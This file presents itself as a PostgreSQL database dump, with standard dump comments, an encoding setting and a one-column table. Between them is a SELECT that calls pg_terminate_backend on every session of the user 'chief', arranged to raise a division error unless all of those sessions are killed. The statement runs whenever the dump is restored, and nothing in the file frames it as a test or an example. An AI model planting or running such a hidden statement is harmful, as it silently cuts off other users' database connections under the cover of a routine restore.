--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
SELECT 1 / (count(pg_terminate_backend(pid)) - count(*) + 1) FROM pg_stat_activity WHERE usename = 'chief';

--
-- PostgreSQL database dump complete
--
